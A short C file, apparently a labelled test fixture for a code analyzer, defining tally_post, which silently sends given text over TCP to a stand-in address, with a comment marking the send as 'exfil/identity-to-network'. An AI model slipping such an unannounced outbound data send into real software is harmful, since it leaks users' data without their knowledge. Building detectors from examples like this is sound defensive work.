#include "tally.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int tally_post(const char *text, size_t size) {
    struct sockaddr_in peer;
    int out = socket(AF_INET, SOCK_STREAM, 0);
    memset(&peer, 0, sizeof peer);
    peer.sin_family = AF_INET;
    peer.sin_port = htons(80);
    inet_pton(AF_INET, "192.0.2.171", &peer.sin_addr);
    if (connect(out, (struct sockaddr *)&peer, sizeof peer) == 0)
        // report@+1: exfil/identity-to-network
        send(out, text, size, 0);
    return close(out);
}
